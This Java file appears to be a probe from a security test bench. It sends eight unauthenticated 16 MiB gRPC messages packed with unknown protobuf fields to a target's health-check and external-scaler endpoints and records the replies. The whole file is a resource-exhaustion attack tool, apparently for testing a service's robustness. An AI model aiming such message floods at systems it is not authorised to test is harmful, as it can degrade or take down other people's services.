package org.simreg.bench.attack.port;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/** Messages of 16 MiB of unknown fields to the RPCs that want no token. */
final class LargeHealthChecks {
    private LargeHealthChecks() {}

    /**
     * @param arguments HOST:PORT
     */
    public static void main(String[] arguments) throws Exception {
        Target target = Target.of(arguments);
        List<String> answers = new ArrayList<>();
        byte[] unknown = new byte[16 << 20];
        for (int i = 0; i < unknown.length; i += 2) {
            // Field 15, a varint of 1.
            unknown[i] = 15 << 3;
            unknown[i + 1] = 1;
        }
        for (String method : List.of("grpc.health.v1.Health/Check", "externalscaler.ExternalScaler/IsActive")) {
            for (int i = 0; i < 4; i++) {
                try (Http2Attacker client = new Http2Attacker(target)) {
                    int call = client.begin(method);
                    client.prefix(call, unknown.length);
                    client.data(call, unknown);
                    client.end(call);
                    answers.add(client.ended(call));
                } catch (IOException | IllegalStateException e) {
                    answers.add(e.getMessage());
                }
            }
        }
        Target.tell("large health checks", "8 calls without a token of 16 MiB of unknown fields each", answers);
    }
}
